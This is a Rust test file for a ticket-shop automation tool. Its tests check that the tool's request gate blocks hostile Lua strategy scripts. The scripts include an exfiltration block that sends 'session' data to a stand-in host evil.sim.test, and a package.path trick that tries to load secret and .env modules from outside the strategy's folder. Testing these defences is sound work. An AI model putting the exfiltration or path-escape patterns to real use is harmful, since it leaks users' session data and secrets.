//! One gate for every request (issue 15, C and D), tried from the hostile side: a strategy that
//! aims requests, redirects and webhooks where the user never said, and a server whose redirects
//! walk toward the shop's buy URL, a checkout page, plain http, a loop, or a rate limit.
//!
//! The simulator is loopback; names given with `--resolve NAME:127.0.0.1` make it a "remote"
//! host (the rules judge by name), `localhost` is a second loopback host beside `127.0.0.1`.
//! `/_hostile/…` on the simulator is the hostile server (see `sim::routes::hostile`).

use std::time::Duration;

use crate::support::{Race, bare};

/// Lua shared by the scripts below: the simulator's port, URLs on any name, a redirect, and one
/// log line per outcome (`LABEL: status S URL` or `LABEL: KIND | message`).
const PRELUDE: &str = r#"
local race = require("race")
local base = "{BASE}"
local port = base:match(":(%d+)$")
local function at(host, path) return "https://" .. host .. ":" .. port .. path end
local function redirect(from_host, code, to)
  return race.url.query(at(from_host, "/_hostile/redirect"), { code = code, to = to })
end
local function say(label, r, err)
  if r == true then
    race.log.info("%s: sent", label)
  elseif r then
    race.log.info("%s: status %d %s", label, r.status, r.url)
  else
    race.log.info("%s: %s | %s", label, err.kind, err.message)
  end
end
"#;

fn script(body: &str) -> String {
    format!("{PRELUDE}\nreturn function()\n{body}\n  return true\nend\n")
}

/// Requests the simulator saw whose path is `path`.
fn seen(sim: &pretix_race::sim::Sim, path: &str) -> Vec<pretix_race::sim::Seen> {
    sim.seen().into_iter().filter(|s| s.path == path).collect()
}

fn line<'a>(stderr: &'a str, label: &str) -> &'a str {
    stderr
        .lines()
        .find(|l| l.contains(&format!("{label}: ")))
        .unwrap_or_else(|| panic!("no {label} line:\n{stderr}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dry_runs_post_redirected_by_307_to_a_buy_url_is_refused() {
    let d = Race::named("quiet")
        .arg("--dry-run")
        .script(&script(
            r#"
  local buy = base .. "/rehearsal/secondhand/buy/L1/"
  say("post307", race.session:post(redirect("localhost", 307, buy), { token = "x" }))
  say("post308", race.session:post(redirect("localhost", 308, buy), { token = "x" }))
  local other = race.new_session()
  say("other307", other:post(redirect("localhost", 307, base .. "/rehearsal/cart/add"), { item_7 = "1" }))
"#,
        ))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    for label in ["post307", "post308", "other307"] {
        assert!(
            line(&d.stderr, label).contains(": dry_run |"),
            "{label}: {d:?}"
        );
    }
    // The hostile host saw the first POST; the shop never saw the second.
    assert_eq!(seen(&d.sim, "/_hostile/redirect").len(), 3, "{d:?}");
    let posts: Vec<_> = d.posts().into_iter().map(|s| s.path).collect();
    assert!(posts.iter().all(|p| p == "/_hostile/redirect"), "{posts:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_308_to_a_checkout_page_is_refused_and_302_303_turn_a_post_into_a_get() {
    let d = Race::named("quiet")
        .script(&script(
            r#"
  local checkout = base .. "/rehearsal/checkout/questions/"
  say("post308", race.session:post(redirect("localhost", 308, checkout), { pay = "now" }))
  say("post307", race.session:post(redirect("localhost", 307, checkout), { pay = "now" }))
  say("post302", race.session:post(redirect("localhost", 302, base .. "/_hostile/after302"), { a = "1" }))
  say("post303", race.session:post(redirect("localhost", 303, base .. "/_hostile/after303"), { a = "1" }))
  say("post307ok", race.session:post(redirect("localhost", 307, base .. "/_hostile/after307"), { a = "1" }))
"#,
        ))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    assert!(line(&d.stderr, "post308").contains(": refused |"), "{d:?}");
    assert!(line(&d.stderr, "post307").contains(": refused |"), "{d:?}");
    assert!(
        d.posts().iter().all(|s| !s.path.contains("/checkout/")),
        "{d:?}"
    );
    for (path, method, form) in [
        ("/_hostile/after302", "GET", 0),
        ("/_hostile/after303", "GET", 0),
        ("/_hostile/after307", "POST", 1),
    ] {
        let s = seen(&d.sim, path);
        assert_eq!(s.len(), 1, "{path}: {d:?}");
        assert_eq!(s[0].method, method, "{path}");
        assert_eq!(s[0].form.len(), form, "{path}: {:?}", s[0].form);
    }
    // The answer's URL is the last hop's.
    assert!(
        line(&d.stderr, "post302").contains("status 200 https://127.0.0.1:"),
        "{d:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_to_plain_http_on_a_remote_host_makes_no_connection() {
    let d = Race::named("quiet")
        .args([
            "--resolve",
            "shop.test:127.0.0.1",
            "--allow-host",
            "shop.test",
        ])
        .script(&script(
            r#"
  local clear = "http://shop.test:" .. port .. "/_hostile/clear"
  say("downgrade", race.session:get(redirect("127.0.0.1", 302, clear)))
"#,
        ))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    let l = line(&d.stderr, "downgrade");
    assert!(l.contains(": refused |") && l.contains("plain http"), "{l}");
    assert!(seen(&d.sim, "/_hostile/clear").is_empty(), "{d:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_loop_stops_after_10_hops_with_an_error_that_names_it() {
    let d = Race::named("quiet")
        .script(&script(
            r#"
  say("loop", race.session:get(base .. "/_hostile/loop"))
"#,
        ))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    let l = line(&d.stderr, "loop");
    assert!(
        l.contains(": redirect_loop |") && l.contains("more than 10 redirects"),
        "{l}"
    );
    // The first request and 10 hops.
    assert_eq!(seen(&d.sim, "/_hostile/loop").len(), 11, "{d:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redirects_through_many_names_draw_on_the_landing_hosts_budget() {
    let mut r = Race::named("quiet").args([
        "--resolve",
        "shop.test:127.0.0.1",
        "--allow-host",
        "shop.test",
    ]);
    for i in 1..=8 {
        let name = format!("r{i}.sim.test");
        r = r
            .arg("--resolve")
            .arg(format!("{name}:127.0.0.1"))
            .arg("--allow-host")
            .arg(name);
    }
    let d = r
        .script(&script(
            r#"
  for i = 1, 8 do
    say("hop" .. i, race.session:get(redirect("r" .. i .. ".sim.test", 302, at("shop.test", "/_hostile/landed"))))
  end
"#,
        ))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    let landed = seen(&d.sim, "/_hostile/landed");
    assert_eq!(landed.len(), 8, "{d:?}");
    // Each redirecting name is fresh, but every hop lands on shop.test: a burst of 6, then one
    // token per 2 s, so the 7th and 8th wait for about 2 s each (at least 3 s in all).
    let span = landed[7].at - landed[0].at;
    assert!(span >= Duration::from_secs(3), "{span:?}\n{d:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_polls_redirect_hops_keep_the_2_s_floor() {
    // A GET that redirects within one remote host: each hop is a poll of that host, so the
    // polls stay 2 s apart however many redirects a page makes.
    let d = Race::named("quiet")
        .args(["--resolve", "shop.test:127.0.0.1", "--allow-host", "shop.test"])
        .script(&script(
            r#"
  for i = 1, 2 do
    say("hop" .. i, race.session:get(redirect("shop.test", 302, at("shop.test", "/_hostile/landed"))))
  end
"#,
        ))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    let mut at: Vec<_> = d
        .sim
        .seen()
        .into_iter()
        .filter(|s| s.path.starts_with("/_hostile/"))
        .map(|s| s.at)
        .collect();
    at.sort();
    assert_eq!(at.len(), 4, "two redirects and two landings: {d:?}");
    for w in at.windows(2) {
        assert!(
            w[1] - w[0] >= Duration::from_millis(1900),
            "{:?}\n{d:?}",
            w[1] - w[0]
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scripts_webhooks_to_a_remote_host_draw_on_its_budget() {
    let d = Race::named("quiet")
        .args([
            "--resolve",
            "hooks.sim.test:127.0.0.1",
            "--allow-host",
            "hooks.sim.test",
        ])
        .script(&script(
            r#"
  for i = 1, 8 do
    say("hook" .. i, race.alert.webhook(at("hooks.sim.test", "/_hostile/hook"), { n = i }))
  end
  assert(race.session:get(race.options.event_url))
"#,
        ))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    // Queued at once; delivered a burst of 6, then one per 2 s (the run waits for them).
    let hooks = seen(&d.sim, "/_hostile/hook");
    assert_eq!(hooks.len(), 8, "{d:?}");
    let mut at: Vec<_> = hooks.iter().map(|s| s.at).collect();
    at.sort();
    assert!(
        at[7] - at[0] >= Duration::from_secs(3),
        "{:?}\n{d:?}",
        at[7] - at[0]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_retry_after_on_the_last_hop_is_charged_to_the_host_that_sent_it() {
    let d = Race::named("quiet")
        .args(["--resolve", "shop.test:127.0.0.1", "--allow-host", "shop.test"])
        .script(&script(
            r#"
  local limited = race.url.query(at("shop.test", "/_hostile/status"), { code = 429, retry_after = 7 })
  say("limited", race.session:get(redirect("127.0.0.1", 302, limited)))
"#,
        ))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    assert!(
        line(&d.stderr, "limited").contains("status 429 https://shop.test:"),
        "{d:?}"
    );
    assert!(
        d.stderr.contains("shop.test answered 429: waiting"),
        "{d:?}"
    );
    assert!(!d.stderr.contains("127.0.0.1 answered 429"), "{d:?}");
}

/// Every way a strategy sends something to a host the user never named.
const EXFILTRATE: &str = r#"
  local stolen = at("evil.sim.test", "/_hostile/stolen")
  say("get", race.session:get(stolen .. "?c=session"))
  say("new_session", race.new_session():post(stolen, { c = "session" }))
  say("hop", race.session:get(redirect("127.0.0.1", 302, stolen)))
  say("webhook_wait", race.alert.webhook(stolen, { c = "session" }, { wait = true }))
  say("webhook", race.alert.webhook(stolen, { c = "session" }))
  say("shop_hook", race.alert.webhook(base .. "/rehearsal/", { c = "session" }, { wait = true }))
  say("shop_hook_bg", race.alert.webhook(base .. "/rehearsal/", { c = "session" }))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_only_the_script_names_is_refused_before_any_connection() {
    let d = Race::named("quiet")
        .args(["--resolve", "evil.sim.test:127.0.0.1"])
        .script(&script(EXFILTRATE))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    for label in ["get", "new_session", "hop", "webhook_wait", "webhook"] {
        let l = line(&d.stderr, label);
        assert!(
            l.contains(": not_allowed |")
                && l.contains("evil.sim.test")
                && l.contains("--allow-host"),
            "{label}: {l}"
        );
    }
    // Whoever asks, a webhook never goes to the watched shop.
    for label in ["shop_hook", "shop_hook_bg"] {
        assert!(line(&d.stderr, label).contains(": refused |"), "{d:?}");
    }
    assert!(seen(&d.sim, "/_hostile/stolen").is_empty(), "{d:?}");
    assert!(d.posts().is_empty(), "{d:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allow_host_lets_a_named_host_through() {
    let d = Race::named("quiet")
        .args(["--resolve", "evil.sim.test:127.0.0.1"])
        .args(["--allow-host", "EVIL.sim.test."])
        .script(&script(EXFILTRATE))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    for label in ["get", "new_session", "hop"] {
        assert!(
            line(&d.stderr, label).contains("status 200"),
            "{label}: {d:?}"
        );
    }
    for label in ["webhook_wait", "webhook"] {
        assert!(line(&d.stderr, label).contains(": sent"), "{label}: {d:?}");
    }
    assert!(seen(&d.sim, "/_hostile/stolen").len() >= 4, "{d:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_webhook_flag_on_the_shops_site_is_refused_at_start_up() {
    let dir = tempfile::tempdir().unwrap();
    let (code, _, err) = bare(
        &[
            "--url",
            "https://tickets.example.com",
            "--event",
            "ev",
            "--webhook",
            "https://TICKETS.example.com/hook",
            "--log-dir",
            "log",
        ],
        dir.path(),
    )
    .await;
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("is on the shop's own site"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rehearsal_sends_nothing_off_the_machine_whoever_asks() {
    // A server on a "remote" name that would answer, were anything sent.
    let sim = pretix_race::sim::Sim::start(pretix_race::sim::Scenario::named("quiet").unwrap())
        .await
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("ca.pem"), sim.ca_pem()).unwrap();
    let port = sim.base_url().port().unwrap();
    let lua = format!(
        r#"
local race = require("race")
local away = "https://hooks.sim.test:{port}/_hostile/away"
local function say(label, r, err)
  race.log.info("%s: %s", label, r and "sent" or (err.kind .. " | " .. err.message))
end
return function()
  say("webhook", race.alert.webhook(away, {{ c = "session" }}, {{ wait = true }}))
  say("get", race.session:get(away))
  assert(race.session:get(race.options.event_url))
  return true
end
"#
    );
    std::fs::write(dir.path().join("s.lua"), lua).unwrap();
    let (code, _, err) = bare(
        &[
            "rehearse",
            "--script",
            "s.lua",
            "--headless",
            "--resolve",
            "hooks.sim.test:127.0.0.1",
            "--ca-cert",
            "ca.pem",
            "--log-dir",
            "log",
        ],
        dir.path(),
    )
    .await;
    assert_eq!(code, 0, "{err}");
    for label in ["webhook", "get"] {
        let l = line(&err, label);
        assert!(
            l.contains(": not_allowed |")
                && l.contains("a rehearsal sends nothing off this machine"),
            "{l}"
        );
    }
    assert!(sim.seen().is_empty(), "{:?}", sim.seen());
    // And no flag opens it.
    let (code, _, err) = bare(
        &["rehearse", "--allow-host", "hooks.sim.test", "--headless"],
        dir.path(),
    )
    .await;
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("a rehearsal sends nothing off this machine"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn require_reads_only_the_strategys_folder_whatever_package_path_says() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.lua"), "return 'stolen'").unwrap();
    std::fs::write(outside.path().join(".env.lua"), "return 'stolen'").unwrap();
    let out = outside.path().display().to_string();
    let body = format!(
        r#"
  package.path = "{out}/?.lua;" .. package.path
  package.cpath = "{out}/?.so"
  for _, name in ipairs({{ "secret", "../{dir}/secret", "{out}/secret", ".env" }}) do
    local ok, v = pcall(require, name)
    race.log.info("require %s: %s %s", name, tostring(ok), tostring(v))
  end
  race.log.info("beside: %s", tostring(require("helper")))
  assert(race.session:get(race.options.event_url))
"#,
        dir = outside.path().file_name().unwrap().to_string_lossy()
    );
    let d = Race::named("quiet")
        .file("helper.lua", b"return 'beside the strategy'")
        .script(&script(&body))
        .run()
        .await;
    assert_eq!(d.code, 0, "{d:?}");
    assert!(!d.stderr.contains("stolen"), "{d:?}");
    assert_eq!(
        d.stderr.matches(": false ").count(),
        4,
        "every outside module refused: {d:?}"
    );
    assert!(d.stderr.contains("beside: beside the strategy"), "{d:?}");
    // Names that climb out of the folder or start at the root are refused by name.
    assert_eq!(
        d.stderr
            .matches("modules are named from the strategy's folder")
            .count(),
        2,
        "{d:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allow_host_takes_a_host_name_only() {
    let dir = tempfile::tempdir().unwrap();
    for bad in ["https://hooks.example.com/", "hooks.example.com:8443", ""] {
        let (code, _, err) = bare(
            &[
                "--url",
                "https://tickets.example.com",
                "--event",
                "ev",
                "--allow-host",
                bad,
                "--log-dir",
                "log",
            ],
            dir.path(),
        )
        .await;
        assert_eq!(code, 2, "{bad}: {err}");
        assert!(err.contains("is not a host name"), "{bad}: {err}");
    }
}
